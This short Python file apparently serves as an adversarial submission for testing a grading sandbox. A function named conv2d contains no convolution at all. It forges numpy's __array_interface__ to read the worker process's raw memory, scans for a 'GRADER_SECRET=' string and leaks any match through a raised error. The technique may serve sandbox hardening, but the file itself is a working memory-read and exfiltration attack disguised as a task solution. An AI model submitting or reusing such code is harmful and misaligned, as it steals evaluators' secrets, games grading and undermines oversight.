"""Class 1: numpy reads raw memory through a forged __array_interface__: look for the course
secret in the worker's own memory (it must never be there) and return it in a message."""
import numpy as np


class Raw:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    found = []
    base = id(np) & ~0xFFFF
    for offset in range(0, 1 << 24, 1 << 16):
        try:
            chunk = bytes(np.asarray(Raw(base + offset, 1 << 16)))
        except BaseException:
            continue
        at = chunk.find(b"GRADER_SECRET=")
        if at >= 0:
            found.append(chunk[at:at + 80])
    raise RuntimeError(f"memory says: {found!r}")
